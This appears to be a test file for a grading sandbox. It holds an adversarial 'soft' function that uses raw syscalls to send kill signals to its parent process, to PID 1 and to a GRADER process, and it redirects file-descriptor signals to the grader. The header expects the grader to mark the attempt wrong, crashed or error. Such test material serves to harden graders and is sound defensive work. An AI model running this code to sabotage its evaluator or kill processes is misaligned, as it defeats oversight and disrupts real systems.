# The same through the calls beside kill.
# attacks: soft
# expects: soft=wrong|crashed|error

# %%
import ctypes
import os

libc = ctypes.CDLL(None)
KILL, TKILL, TGKILL, SIGQUEUE, TSIGQUEUE, PIDFD_SEND, PIDFD_OPEN = 62, 200, 234, 129, 297, 424, 434


def soft(x):
    info = bytes(128)
    for target, number in ((os.getppid(), 9), (1, 9), (GRADER, 23)):
        if target == os.getpid() or target < 1:
            continue
        libc.syscall(KILL, target, number)
        libc.syscall(KILL, ctypes.c_long(target | 1 << 32), number)
        libc.syscall(TKILL, target, number)
        libc.syscall(TGKILL, target, target, number)
        libc.syscall(SIGQUEUE, target, number, info)
        libc.syscall(TSIGQUEUE, target, target, number, info)
        libc.syscall(PIDFD_SEND, libc.syscall(PIDFD_OPEN, target, 0), number, None, 0)
    for number in range(256):
        libc.syscall(PIDFD_SEND, number, 23, None, 0)
        libc.fcntl(number, 8, GRADER)
        libc.fcntl(number, 10, 23)
    return 0
